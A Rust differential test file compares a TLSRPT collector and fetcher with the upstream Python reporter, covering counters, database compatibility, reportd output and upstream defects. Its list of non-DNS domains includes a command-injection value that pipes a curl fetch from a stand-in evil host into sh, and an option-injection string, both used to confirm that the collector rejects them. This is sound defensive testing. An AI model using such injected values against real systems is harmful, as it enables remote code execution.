//! Differential tests against the upstream Python reporter (sys4
//! tlsrpt-reporter 0.6.0, installed as an oracle in `.venv`): the same
//! datagrams give the same counters, each fetcher reads the other's database
//! byte for byte, the upstream reportd accepts our fetcher, and the upstream
//! defects we fix are measured.
//!
//! Both collectors run on the real clock; SIGUSR2 (development rollover)
//! relabels today's counters as yesterday's and moves them to
//! `<db>.yesterday`, where the fetchers read them. A missing oracle fails the
//! tests (`support::upstream` panics), it never skips them.

use crate::support;

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitStatus, Stdio};
use std::time::{Duration, Instant};

use crate::support::*;
use serde_json::Value;
use tlsrpt_datagram::client::{
    DeliveryAttempt, FailureDetail, Policy, PolicyType, ResultType, Sender,
};

// ---------------------------------------------------------------------------
// Datagrams

/// Free text for policy strings, MX hosts and failure details: quotes,
/// backslashes, control characters, non-ASCII inside and beyond the BMP.
const TEXTS: &[&str] = &[
    "plain text",
    "say \"hello\" twice \"\"",
    "back\\slash \\\\ and \\u0041",
    "tab\tseparated\tvalues",
    "ctl \u{1} esc \u{1b}[0m us \u{1f} del \u{7f}",
    "line\nbreak\r\nend",
    "bs\u{8} ff\u{c}",
    "Umlaut äöü ÄÖÜ ß",
    "emoji 😀 🎉",
    "日本語テキスト",
    "max \u{10ffff} ls \u{2028} nbsp \u{a0}",
    "",
    "1.2.3.4",
    "2001:db8::1",
    "mx.example.net",
    "single 'quotes' and /slashes/ </script>",
];

/// Policy domains as an MTA may pass them: any case, a trailing dot,
/// A-labels, service labels. Both collectors count these alike; domains
/// that are not DNS names are a deliberate difference (see
/// [`domains_that_are_not_dns_names_are_stored_by_upstream_and_refused_by_ours`]).
const DOMAINS: &[&str] = &[
    "Upstream.Example.",
    "upstream.example",
    "UPSTREAM.EXAMPLE",
    "XN--BCHER-KVA.Example.",
    "xn--bcher-kva.example",
    "xn--4ca0bs.Umlaut.Example",
    "Sub.Domain.Example.NET.",
    "_smtp._tls.Example.ORG",
    "a-b.example",
    "xn--kxae4bafwg.greek.example",
    "Greek.Example.xn--kxae4bafwg.",
    "xn--stanbul-cua.example",
    // The Kelvin sign lower-cases to an ASCII k (as in Python).
    "\u{212a}elvin.example",
    "mx1.example.com",
    "9.example",
    "x.y.z.example",
];

/// Domains that are not DNS names: U-labels, a label left empty, shell and
/// option syntax. Upstream stores them.
const NOT_DNS_NAMES: &[&str] = &[
    "Bücher.Example.",
    "😀.Emoji.Example.",
    "two.dots.example..",
    "x.example;curl${IFS}evil.example|sh",
    "-oProxyCommand=x",
];

/// TLSRPT records: all valid for the reportd (`v=TLSRPTv1;rua=` with mailto:
/// and https: destinations), but with odd characters inside.
const RECORDS: &[&str] = &[
    "v=TLSRPTv1;rua=mailto:tlsrpt@upstream.example",
    "v=TLSRPTv1; rua=mailto:a@x.example,https://reports.x.example/tlsrpt",
    "v=TLSRPTv1;rua=mailto:r\"q\"@x.example",
    "v=TLSRPTv1;rua=mailto:r@bücher.example",
    "v=TLSRPTv1;rua=https://r.example/a\\b\tc",
];

/// A small deterministic generator (SplitMix64): the same datagrams on
/// every run, so a failure can be reproduced.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn chance(&mut self, percent: u64) -> bool {
        self.next() % 100 < percent
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len())]
    }

    fn text(&mut self) -> Option<String> {
        self.chance(60).then(|| self.pick(TEXTS).to_string())
    }
}

fn random_policy(rng: &mut Rng) -> Policy {
    let policy_type = [PolicyType::Tlsa, PolicyType::Sts, PolicyType::NoPolicyFound][rng.below(3)];
    let mut p = Policy::new(policy_type);
    if policy_type != PolicyType::NoPolicyFound || rng.chance(30) {
        p.policy_domain = Some(rng.pick(DOMAINS).to_string());
    }
    p.policy_strings = (0..rng.below(4))
        .map(|_| rng.pick(TEXTS).to_string())
        .collect();
    p.mx_hosts = (0..rng.below(3))
        .map(|_| rng.pick(TEXTS).to_string())
        .collect();
    for _ in 0..rng.below(4) {
        let mut f = FailureDetail::new(ResultType::ALL[rng.below(ResultType::ALL.len())]);
        f.sending_mta_ip = rng.text();
        f.receiving_mx_hostname = rng.text();
        f.receiving_mx_helo = rng.text();
        f.receiving_ip = rng.text();
        f.additional_information = rng.text();
        f.failure_reason_code = rng.text();
        p.failures.push(f.clone());
        if rng.chance(10) {
            p.failures.push(f); // the same failure twice in one session
        }
    }
    p.failed = if p.failures.is_empty() {
        rng.chance(15)
    } else {
        rng.chance(85)
    };
    p
}

/// A few hundred varied delivery attempts, some of them sent repeatedly.
fn generated() -> Vec<DeliveryAttempt> {
    let mut rng = Rng(8460);
    let mut out = Vec::new();
    for i in 0..300 {
        let attempt = DeliveryAttempt {
            domain: rng.pick(DOMAINS).to_string(),
            record: rng.pick(RECORDS).to_string(),
            policies: (0..1 + rng.below(3))
                .map(|_| random_policy(&mut rng))
                .collect(),
        };
        let repeats = if i % 7 == 0 { 3 } else { 1 };
        for _ in 0..repeats {
            out.push(attempt.clone());
        }
    }
    // and a few again, much later
    let again: Vec<DeliveryAttempt> = out.iter().step_by(37).cloned().collect();
    out.extend(again);
    out
}

/// The shared libtlsrpt vectors followed by the generated datagrams.
pub(crate) fn all_datagrams() -> Vec<Vec<u8>> {
    let mut out: Vec<Vec<u8>> = vectors().into_iter().map(|(_, bytes)| bytes).collect();
    out.extend(generated().iter().map(DeliveryAttempt::to_datagram));
    out
}

/// The number of policies in a datagram: what `sum(cntrtotal)` grows by.
pub(crate) fn policy_count(datagram: &[u8]) -> i64 {
    let v: Value = serde_json::from_slice(datagram).unwrap();
    v["policies"].as_array().unwrap().len() as i64
}

// ---------------------------------------------------------------------------
// Collectors and their databases

fn daystatus(db: &Path) -> String {
    let conn =
        rusqlite::Connection::open_with_flags(db, rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY)
            .unwrap();
    conn.query_row("SELECT daycomplete FROM daystatus", [], |r| r.get(0))
        .unwrap()
}

/// All rows of a query, each as the debug text of its SQLite values (so that
/// a type difference, e.g. text versus integer, shows), sorted.
pub(crate) fn rows(db: &Path, sql: &str) -> Vec<String> {
    let conn =
        rusqlite::Connection::open_with_flags(db, rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY)
            .unwrap();
    let mut stmt = conn.prepare(sql).unwrap();
    let n = stmt.column_count();
    let mut out: Vec<String> = stmt
        .query_map([], |r| {
            let values: Vec<rusqlite::types::Value> =
                (0..n).map(|i| r.get(i)).collect::<Result<_, _>>()?;
            Ok(format!("{values:?}"))
        })
        .unwrap()
        .map(Result::unwrap)
        .collect();
    out.sort();
    out
}

/// Equal row sets, or a panic that shows only the rows on one side.
pub(crate) fn assert_same_rows(left: Vec<String>, right: Vec<String>, what: &str) {
    if left == right {
        return;
    }
    let (l, r): (BTreeSet<&String>, BTreeSet<&String>) =
        (left.iter().collect(), right.iter().collect());
    panic!(
        "{what}: {} vs {} rows\nonly left:\n{:#?}\nonly right:\n{:#?}",
        left.len(),
        right.len(),
        l.difference(&r).collect::<Vec<_>>(),
        r.difference(&l).collect::<Vec<_>>()
    );
}

pub(crate) const FINALRESULTS: &str =
    "SELECT day, domain, tlsrptrecord, policy, cntrtotal, cntrfailure FROM finalresults";
pub(crate) const FAILURES: &str =
    "SELECT day, domain, tlsrptrecord, policy, reason, cntr FROM failures";

fn start_ours() -> Collector {
    Collector::start(&["--sockettimeout=1"], &[])
}

fn start_upstream() -> Collector {
    Collector::start_program(&upstream("tlsrpt-collectd"), &["--sockettimeout=1"], &[])
}

/// Both collectors and the reportd take "yesterday" from the real clock: a
/// test that starts shortly before UTC midnight waits until it has passed,
/// so that every process of the test sees the same day.
fn avoid_midnight() {
    use chrono::Timelike;
    let left = 86_400 - i64::from(chrono::Utc::now().num_seconds_from_midnight());
    if left < 60 {
        println!("waiting {left} s for UTC midnight to pass");
        std::thread::sleep(Duration::from_secs(left as u64 + 2));
    }
}

/// Panic with the log if the collector has exited.
fn assert_running(c: &mut Collector, who: &str) {
    if let Some(status) = c.child.try_wait().unwrap() {
        panic!("{who} collectd exited with {status}: {}", c.log_text());
    }
}

/// Wait until `c` has committed `expected` policies, roll it over with
/// SIGUSR2 and wait until `.yesterday` holds them; returns the completed day.
fn roll_over(c: &mut Collector, expected: i64, who: &str) -> String {
    wait_until(20, &format!("{who}: commit of {expected} policies"), || {
        assert_running(c, who);
        try_total(&c.db) == Some(expected)
    });
    c.signal(libc::SIGUSR2);
    wait_until(20, &format!("{who}: development rollover"), || {
        assert_running(c, who);
        try_total(&c.yesterday()) == Some(expected)
    });
    daystatus(&c.yesterday())
}

/// Our collector and the upstream one after receiving the same datagrams and
/// a development rollover, with the completed day of each.
pub(crate) struct Pair {
    pub(crate) ours: Collector,
    pub(crate) ours_day: String,
    pub(crate) theirs: Collector,
    pub(crate) theirs_day: String,
}

pub(crate) fn collect_in_both(datagrams: &[Vec<u8>]) -> Pair {
    avoid_midnight();
    let mut ours = start_ours();
    let mut theirs = start_upstream();
    let expected: i64 = datagrams.iter().map(|d| policy_count(d)).sum();
    for d in datagrams {
        ours.send(d);
        theirs.send(d);
    }
    let ours_day = roll_over(&mut ours, expected, "ours");
    let theirs_day = roll_over(&mut theirs, expected, "upstream");
    Pair {
        ours,
        ours_day,
        theirs,
        theirs_day,
    }
}

// ---------------------------------------------------------------------------
// Fetchers

/// A parsed domain list answer.
#[derive(Debug)]
struct DomainList {
    version: String,
    time: String,
    day: String,
    domains: Vec<String>,
}

fn parse_list(out: &str) -> DomainList {
    let lines: Vec<&str> = out.split('\n').collect();
    assert!(lines.len() >= 5, "short domain list: {out:?}");
    assert_eq!(lines[lines.len() - 1], "", "ends with a newline: {out:?}");
    assert_eq!(lines[lines.len() - 2], ".", "ends with a dot line: {out:?}");
    DomainList {
        version: lines[0].to_string(),
        time: lines[1].to_string(),
        day: lines[2].to_string(),
        domains: lines[3..lines.len() - 2]
            .iter()
            .map(|s| s.to_string())
            .collect(),
    }
}

fn fetch(program: &Path, storage: &str, args: &[&str]) -> String {
    let (code, out, err) = run_fetcher(program, storage, args);
    assert_eq!(
        code,
        0,
        "{} {storage} {args:?} failed: {err}",
        program.display()
    );
    out
}

/// The domain list of `day`, and the details answer of every domain in it
/// (run a few at a time: the Python fetcher takes a third of a second).
fn fetch_all(program: &Path, storage: &str, day: &str) -> (DomainList, BTreeMap<String, String>) {
    let list = parse_list(&fetch(program, storage, &[day]));
    let mut details = BTreeMap::new();
    for chunk in list.domains.chunks(4) {
        let answers: Vec<(String, String)> = std::thread::scope(|s| {
            let handles: Vec<_> = chunk
                .iter()
                .map(|domain| {
                    s.spawn(move || (domain.clone(), fetch(program, storage, &[day, domain])))
                })
                .collect();
            handles.into_iter().map(|h| h.join().unwrap()).collect()
        });
        details.extend(answers);
    }
    (list, details)
}

fn storage(db: &Path) -> String {
    format!("sqlite://{}", db.display())
}

fn set(items: &[String]) -> BTreeSet<String> {
    items.iter().cloned().collect()
}

fn json(text: &str) -> Value {
    serde_json::from_str(text).unwrap_or_else(|e| panic!("not JSON ({e}): {text}"))
}

fn assert_time_line(list: &DomainList) {
    let t = chrono::NaiveDateTime::parse_from_str(&list.time, "%Y-%m-%d %H:%M:%S")
        .unwrap_or_else(|e| panic!("time line {:?}: {e}", list.time));
    let skew = (chrono::Utc::now().naive_utc() - t).num_seconds().abs();
    assert!(skew < 60, "time line {:?} is off by {skew} s", list.time);
}

// ---------------------------------------------------------------------------
// Tests

/// The same datagrams (the libtlsrpt vectors plus a few hundred varied ones)
/// into both collectors give identical database rows, and each fetcher on its
/// own collector's database gives the same domain set and the same details
/// (as parsed JSON: policy and failure strings compared exactly).
#[test]
fn same_datagrams_give_the_same_counters_and_fetcher_answers_as_upstream() {
    let datagrams = all_datagrams();
    assert!(datagrams.len() > 300);
    let mut pair = collect_in_both(&datagrams);

    assert_same_rows(
        rows(&pair.ours.yesterday(), FINALRESULTS),
        rows(&pair.theirs.yesterday(), FINALRESULTS),
        "finalresults rows (left ours, right upstream)",
    );
    assert_same_rows(
        rows(&pair.ours.yesterday(), FAILURES),
        rows(&pair.theirs.yesterday(), FAILURES),
        "failures rows (left ours, right upstream)",
    );

    let (ours_list, ours_details) =
        fetch_all(&fetcher_bin(), &storage(&pair.ours.db), &pair.ours_day);
    let (theirs_list, theirs_details) = fetch_all(
        &upstream("tlsrpt-fetcher"),
        &storage(&pair.theirs.db),
        &pair.theirs_day,
    );
    assert_eq!(ours_list.version, theirs_list.version);
    assert_eq!(ours_list.day, pair.ours_day);
    assert_eq!(theirs_list.day, pair.theirs_day);
    assert_time_line(&ours_list);
    assert_eq!(
        set(&ours_list.domains),
        set(&theirs_list.domains),
        "domain sets"
    );
    assert_eq!(
        ours_list.domains.len(),
        set(&ours_list.domains).len(),
        "no domain twice in our list"
    );
    // Normalisation as upstream: the variants of one domain became one.
    assert!(ours_list.domains.contains(&"upstream.example".to_string()));
    assert!(ours_list
        .domains
        .contains(&"xn--bcher-kva.example".to_string()));
    assert!(ours_list.domains.len() >= 12, "{:?}", ours_list.domains);

    for (domain, theirs) in &theirs_details {
        let ours = &ours_details[domain];
        assert_eq!(json(ours), json(theirs), "details of {domain:?}");
    }

    assert!(pair.ours.terminate().success());
    assert!(
        pair.theirs.terminate().success(),
        "{}",
        pair.theirs.log_text()
    );
}

/// The databases are interchangeable: our fetcher on the upstream collector's
/// file answers byte for byte like the upstream fetcher on it, and the
/// upstream fetcher on our collector's file answers like ours (details byte
/// for byte, domain lists as sets with equal header lines but the time).
#[test]
fn each_fetcher_reads_the_other_collectors_database_identically() {
    let datagrams = all_datagrams();
    let mut pair = collect_in_both(&datagrams);
    assert_eq!(
        rows(
            &pair.ours.yesterday(),
            "SELECT version, purpose FROM dbversion"
        ),
        rows(
            &pair.theirs.yesterday(),
            "SELECT version, purpose FROM dbversion"
        ),
        "dbversion"
    );
    // The schema, of the completed day's files and of the fresh files of
    // the new day (once both collectors have finished setting them up).
    let schema = "SELECT type, name, tbl_name, sql FROM sqlite_master";
    assert_eq!(
        rows(&pair.ours.yesterday(), schema),
        rows(&pair.theirs.yesterday(), schema),
        "schema of the completed day"
    );
    let set_up = |db: &Path| {
        rusqlite::Connection::open_with_flags(db, rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY)
            .and_then(|c| c.query_row("SELECT count(*) FROM dbversion", [], |r| r.get(0)))
            .is_ok_and(|n: i64| n == 1)
    };
    wait_until(10, "the new day's databases", || {
        set_up(&pair.ours.db) && set_up(&pair.theirs.db)
    });
    assert_eq!(
        rows(&pair.ours.db, schema),
        rows(&pair.theirs.db, schema),
        "schema of the new day"
    );

    for (name, db, day) in [
        ("upstream's database", &pair.theirs.db, &pair.theirs_day),
        ("our database", &pair.ours.db, &pair.ours_day),
    ] {
        let url = storage(db);
        let (ours_list, ours_details) = fetch_all(&fetcher_bin(), &url, day);
        let (theirs_list, theirs_details) = fetch_all(&upstream("tlsrpt-fetcher"), &url, day);
        assert_eq!(
            ours_list.version, theirs_list.version,
            "{name}: version line"
        );
        assert_eq!(ours_list.day, theirs_list.day, "{name}: day line");
        assert_eq!(&ours_list.day, day, "{name}: day line is the daystatus");
        assert_eq!(
            set(&ours_list.domains),
            set(&theirs_list.domains),
            "{name}: domain sets"
        );
        assert_eq!(ours_details.len(), theirs_details.len());
        assert!(ours_details.len() >= 12);
        for (domain, theirs) in &theirs_details {
            assert_eq!(
                &ours_details[domain], theirs,
                "{name}: details of {domain:?}, byte for byte"
            );
        }
    }

    assert!(pair.ours.terminate().success());
    assert!(
        pair.theirs.terminate().success(),
        "{}",
        pair.theirs.log_text()
    );
}

/// A child process that is killed when the test ends, passed or failed.
struct Daemon {
    child: Child,
    log: PathBuf,
}

impl Daemon {
    fn log_text(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }

    fn terminate(&mut self, secs: u64) -> ExitStatus {
        signal(&self.child, libc::SIGTERM);
        let deadline = Instant::now() + Duration::from_secs(secs);
        loop {
            if let Some(status) = self.child.try_wait().unwrap() {
                return status;
            }
            assert!(
                Instant::now() < deadline,
                "did not exit on SIGTERM: {}",
                self.log_text()
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

impl Drop for Daemon {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Recursively sort object keys; sort the `policies` and `failure-details`
/// arrays of a report (their order comes from dict iteration, not meaning).
fn canonical_report(v: &Value) -> Value {
    fn sort_keys(v: &Value) -> Value {
        match v {
            Value::Object(m) => {
                let sorted: BTreeMap<&String, Value> =
                    m.iter().map(|(k, v)| (k, sort_keys(v))).collect();
                Value::Object(sorted.into_iter().map(|(k, v)| (k.clone(), v)).collect())
            }
            Value::Array(a) => Value::Array(a.iter().map(sort_keys).collect()),
            other => other.clone(),
        }
    }
    fn sort_array(v: &mut Value) {
        if let Value::Array(a) = v {
            a.sort_by_key(|x| x.to_string());
        }
    }
    let mut v = sort_keys(v);
    if let Some(policies) = v.get_mut("policies") {
        if let Value::Array(items) = policies {
            for p in items.iter_mut() {
                if let Some(f) = p.get_mut("failure-details") {
                    sort_array(f);
                }
            }
        }
        sort_array(policies);
    }
    v
}

/// The upstream reportd, configured with our fetcher on our collector's
/// database, builds the reports of yesterday: for the libtlsrpt vectors the
/// same reports as the upstream reference (report-id and dates aside, which
/// are checked for the day), and for every other domain one report per
/// TLSRPT record with the counts of our database.
#[test]
fn upstream_reportd_builds_the_reports_from_our_fetcher() {
    let datagrams = all_datagrams();
    let expected: i64 = datagrams.iter().map(|d| policy_count(d)).sum();
    avoid_midnight();
    let mut c = start_ours();
    for d in &datagrams {
        c.send(d);
    }
    let day = roll_over(&mut c, expected, "ours");

    // What the reports must say, from our database: per domain the number of
    // records (= reports) and the session counts.
    let conn = rusqlite::Connection::open_with_flags(
        c.yesterday(),
        rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY,
    )
    .unwrap();
    let mut expected_reports: BTreeMap<String, (usize, i64, i64)> = BTreeMap::new();
    let mut stmt = conn
        .prepare(
            "SELECT domain, count(DISTINCT tlsrptrecord), sum(cntrtotal), sum(cntrfailure) \
             FROM finalresults WHERE day = ?1 GROUP BY domain",
        )
        .unwrap();
    for row in stmt
        .query_map([&day], |r| {
            Ok((
                r.get::<_, String>(0)?,
                r.get::<_, i64>(1)? as usize,
                r.get::<_, i64>(2)?,
                r.get::<_, i64>(3)?,
            ))
        })
        .unwrap()
    {
        let (domain, records, total, failed) = row.unwrap();
        expected_reports.insert(domain, (records, total, failed));
    }
    drop(stmt);
    drop(conn);
    let report_count: usize = expected_reports.values().map(|(n, _, _)| n).sum();
    assert!(expected_reports.len() >= 12, "{expected_reports:?}");

    let dir = tempfile::tempdir().unwrap();
    let reports_dir = dir.path().join("reports");
    std::fs::create_dir(&reports_dir).unwrap();
    let record_map = dir.path().join("record.map");
    std::fs::write(
        &record_map,
        format!(
            "# every report into a directory\n. REPLACE directory:{}\n",
            reports_dir.display()
        ),
    )
    .unwrap();
    let log = dir.path().join("reportd.log");
    let fetcher = format!("{} --storage={}", fetcher_bin().display(), storage(&c.db));
    let child = Command::new(upstream("tlsrpt-reportd"))
        .arg(format!(
            "--dbname={}",
            dir.path().join("reportd.sqlite").display()
        ))
        .arg(format!("--fetchers={fetcher}"))
        .arg("--organization_name=Example Org")
        .arg("--contact_info=tlsrpt-noreply@example.net")
        .arg("--sender_address=tlsrpt-noreply@example.net")
        .arg(format!("--tlsrpt_record_map={}", record_map.display()))
        .arg("--interval_main_loop=1")
        .arg("--spread_out_delivery=1")
        .arg("--min_wait_delivery=0")
        .arg("--max_wait_delivery=1")
        .arg("--min_wait_domainlist=0")
        .arg("--max_wait_domainlist=1")
        .arg("--min_wait_domaindetails=0")
        .arg("--max_wait_domaindetails=1")
        .arg(format!("--logfilename={}", log.display()))
        .arg("--log_level=debug")
        .current_dir(dir.path())
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut reportd = Daemon { child, log };

    // The reports, by file name, once all are there and complete.
    let read_reports = || -> Option<Vec<Value>> {
        let mut out = Vec::new();
        for entry in std::fs::read_dir(&reports_dir).ok()? {
            let text = std::fs::read_to_string(entry.ok()?.path()).ok()?;
            out.push(serde_json::from_str(&text).ok()?);
        }
        Some(out)
    };
    let deadline = Instant::now() + Duration::from_secs(25);
    let reports = loop {
        if let Some(r) = read_reports().filter(|r| r.len() >= report_count) {
            break r;
        }
        if let Some(status) = reportd.child.try_wait().unwrap() {
            panic!("reportd exited with {status}: {}", reportd.log_text());
        }
        assert!(
            Instant::now() < deadline,
            "{} of {report_count} reports after 25 s: {}",
            read_reports().map_or(0, |r| r.len()),
            reportd.log_text()
        );
        std::thread::sleep(Duration::from_millis(50));
    };
    let status = reportd.terminate(10);
    assert!(status.success(), "reportd: {status}");
    let log = reportd.log_text();
    assert!(
        !log.contains(" ERROR "),
        "the reportd logged errors:\n{log}"
    );
    assert_eq!(
        reports.len(),
        report_count,
        "one report per domain and record"
    );

    // Group the reports by domain (from the report-id) and check the day.
    let prefix = format!("{day}T00:00:00Z_idx");
    let mut by_domain: BTreeMap<String, Vec<Value>> = BTreeMap::new();
    for r in reports {
        assert_eq!(
            r["date-range"]["start-datetime"],
            format!("{day}T00:00:00Z")
        );
        assert_eq!(r["date-range"]["end-datetime"], format!("{day}T23:59:59Z"));
        let id = r["report-id"].as_str().unwrap();
        let (_, domain) = id
            .strip_prefix(&prefix)
            .and_then(|rest| rest.split_once('_'))
            .unwrap_or_else(|| panic!("report-id {id:?}"));
        by_domain.entry(domain.to_string()).or_default().push(r);
    }
    assert_eq!(
        by_domain.keys().collect::<Vec<_>>(),
        expected_reports.keys().collect::<Vec<_>>(),
        "reported domains"
    );
    for (domain, reports) in &by_domain {
        let (records, total, failed) = expected_reports[domain];
        assert_eq!(reports.len(), records, "reports of {domain:?}");
        let (mut got_ok, mut got_failed) = (0, 0);
        for r in reports {
            for p in r["policies"].as_array().unwrap() {
                got_ok += p["summary"]["total-successful-session-count"]
                    .as_i64()
                    .unwrap();
                got_failed += p["summary"]["total-failure-session-count"]
                    .as_i64()
                    .unwrap();
            }
        }
        assert_eq!(
            (got_ok + got_failed, got_failed),
            (total, failed),
            "session counts of {domain:?}"
        );
    }
    for domain in ["example.com", "mixed.case.example"] {
        let got = &by_domain[domain];
        assert_eq!(got.len(), 1);
        let mut got = got[0].clone();
        let mut want =
            json(std::str::from_utf8(&reference(&format!("report-{domain}.json"))).unwrap());
        for v in [&mut got, &mut want] {
            let m = v.as_object_mut().unwrap();
            m.remove("report-id");
            m.remove("date-range");
        }
        assert_eq!(
            canonical_report(&got),
            canonical_report(&want),
            "report of {domain} versus the upstream reference"
        );
    }
    assert!(c.terminate().success());
}

const GOOD: &[u8] = br#"{"dpv": "1","d": "good.example","pr": "v=TLSRPTv1;rua=mailto:r@good.example","policies":[{"policy-type":9,"t":0,"f":0}]}"#;

/// A datagram consisting of `null` kills the upstream collectd (and loses
/// what it had not committed yet); ours refuses it, keeps running and counts
/// the good datagrams before and after it.
/// A deliberate difference: a datagram whose domain is not a DNS name is
/// stored by upstream (and then handed to fetchers, which may run behind a
/// shell) and refused by ours, which counts the good datagrams around it.
#[test]
fn domains_that_are_not_dns_names_are_stored_by_upstream_and_refused_by_ours() {
    let mut datagrams: Vec<Vec<u8>> = Vec::new();
    for domain in NOT_DNS_NAMES {
        let mut attempt = generated()[0].clone();
        attempt.domain = domain.to_string();
        datagrams.push(attempt.to_datagram());
    }
    let good = GOOD.to_vec();
    let theirs = Collector::start_program(&upstream("tlsrpt-collectd"), &[], &[]);
    let ours = Collector::start(&["--sockettimeout=1"], &[]);
    for c in [&theirs, &ours] {
        for d in &datagrams {
            c.send(d);
        }
        c.send(&good);
    }
    let hostile: i64 = datagrams.iter().map(|d| policy_count(d)).sum();
    wait_until(20, "upstream: every datagram", || {
        try_total(&theirs.db) == Some(hostile + 1)
    });
    wait_until(20, "ours: the good datagram", || {
        try_total(&ours.db) == Some(1)
    });
    std::thread::sleep(std::time::Duration::from_millis(1500));
    assert_eq!(total_count(&ours.db), 1);
    let stored = rows(&theirs.db, "SELECT DISTINCT domain FROM finalresults");
    assert!(
        stored
            .iter()
            .any(|d| d.contains("curl${ifs}evil.example|sh")),
        "upstream stores a shell command as a domain: {stored:?}"
    );
}

#[test]
fn null_datagram_kills_upstream_but_not_ours() {
    let mut theirs = Collector::start_program(&upstream("tlsrpt-collectd"), &[], &[]);
    let mut ours = Collector::start(&["--sockettimeout=1"], &[]);
    for c in [&theirs, &ours] {
        for _ in 0..5 {
            c.send(GOOD);
        }
        c.send(b"null");
        for _ in 0..5 {
            c.send(GOOD);
        }
    }

    let status = theirs.wait(20);
    assert!(
        !status.success(),
        "upstream exited successfully on a null datagram?"
    );
    assert!(
        theirs.log_text().contains("TypeError"),
        "upstream died of something else: {}",
        theirs.log_text()
    );
    println!(
        "upstream: died with {status} on `null`; counted {} of the 5 datagrams before it",
        try_total(&theirs.db).unwrap_or(0)
    );

    wait_until(10, "ours: the 10 good datagrams", || {
        try_total(&ours.db) == Some(10)
    });
    assert!(ours.child.try_wait().unwrap().is_none(), "ours still runs");
    assert!(ours.terminate().success());
    assert_eq!(total_count(&ours.db), 10);
}

/// Send `n` datagrams as fast as a non-blocking sender can (as libtlsrpt
/// does) and SIGTERM the collector at once; returns (accepted by the kernel,
/// counted in the database, exit status).
fn burst_then_sigterm(c: &mut Collector, n: usize) -> (i64, i64, ExitStatus) {
    let sender = Sender::new(&c.socket).unwrap();
    let mut accepted = 0;
    for _ in 0..n {
        match sender.send_raw(GOOD) {
            Ok(()) => accepted += 1,
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
            Err(e) => panic!("send: {e}"),
        }
    }
    let status = c.terminate();
    (accepted, total_count(&c.db), status)
}

/// On SIGTERM the upstream collectd closes its socket and drops the
/// datagrams the kernel had already accepted; ours counts every accepted
/// datagram. (Upstream's loss is racy, so it is only printed.)
#[test]
fn sigterm_after_a_burst_loses_nothing_in_ours() {
    let mut ours = Collector::start(&[], &[]);
    let (accepted, counted, status) = burst_then_sigterm(&mut ours, 2000);
    assert!(status.success(), "ours: {status}");
    assert!(accepted > 0);
    assert_eq!(
        counted, accepted,
        "ours: every datagram the kernel accepted is counted"
    );

    let mut theirs = Collector::start_program(&upstream("tlsrpt-collectd"), &[], &[]);
    let (their_accepted, their_counted, their_status) = burst_then_sigterm(&mut theirs, 2000);
    println!(
        "ours: accepted {accepted}, counted {counted}; upstream: accepted {their_accepted}, \
         counted {their_counted}, lost {} ({their_status})",
        their_accepted - their_counted
    );
}

/// Start `program` on the storage of `c` (whose process has exited), with a
/// socket and log of its own in the same directory.
fn restart_on(program: &Path, c: &Collector, name: &str) -> (Daemon, PathBuf) {
    let socket = c.dir.path().join(format!("{name}.socket"));
    let log = c.dir.path().join(format!("{name}.log"));
    let child = Command::new(program)
        .arg(format!("--storage={}", storage(&c.db)))
        .arg(format!("--socketname={}", socket.display()))
        .arg(format!("--logfilename={}", log.display()))
        .arg("--log_level=debug")
        .arg("--sockettimeout=1")
        .current_dir(c.dir.path())
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut daemon = Daemon { child, log };
    let deadline = Instant::now() + Duration::from_secs(20);
    while !socket.exists() {
        if let Some(status) = daemon.child.try_wait().unwrap() {
            panic!(
                "{name} exited at start with {status}: {}",
                daemon.log_text()
            );
        }
        assert!(Instant::now() < deadline, "{name}: socket never appeared");
        std::thread::sleep(Duration::from_millis(10));
    }
    (daemon, socket)
}

/// `first` counts the datagrams of the day and stops; `second` starts on the
/// same database, counts the same datagrams again and rolls the day over:
/// every counter of yesterday is exactly twice what `first` had written.
fn take_over(first: &Path, second: &Path) {
    let datagrams = all_datagrams();
    let expected: i64 = datagrams.iter().map(|d| policy_count(d)).sum();
    avoid_midnight();
    let mut a = Collector::start_program(first, &["--sockettimeout=1"], &[]);
    for d in &datagrams {
        a.send(d);
    }
    wait_until(20, "the first collector's commit", || {
        try_total(&a.db) == Some(expected)
    });
    let status = a.terminate();
    assert!(status.success(), "first: {status}: {}", a.log_text());
    let doubled = rows(
        &a.db,
        "SELECT domain, tlsrptrecord, policy, 2 * cntrtotal, 2 * cntrfailure FROM finalresults",
    );
    let doubled_failures = rows(
        &a.db,
        "SELECT domain, tlsrptrecord, policy, reason, 2 * cntr FROM failures",
    );

    let (mut b, socket) = restart_on(second, &a, "second");
    for d in &datagrams {
        send(&socket, d);
    }
    wait_until(20, "the second collector's commit", || {
        try_total(&a.db) == Some(2 * expected)
    });
    signal(&b.child, libc::SIGUSR2);
    wait_until(20, "the second collector's rollover", || {
        try_total(&a.yesterday()) == Some(2 * expected)
    });
    let day = daystatus(&a.yesterday());
    assert_same_rows(
        rows(
            &a.yesterday(),
            &format!(
                "SELECT domain, tlsrptrecord, policy, cntrtotal, cntrfailure FROM finalresults \
                 WHERE day = '{day}'"
            ),
        ),
        doubled,
        "finalresults after the takeover (left) versus twice the first collector's (right)",
    );
    assert_same_rows(
        rows(
            &a.yesterday(),
            &format!(
                "SELECT domain, tlsrptrecord, policy, reason, cntr FROM failures WHERE day = '{day}'"
            ),
        ),
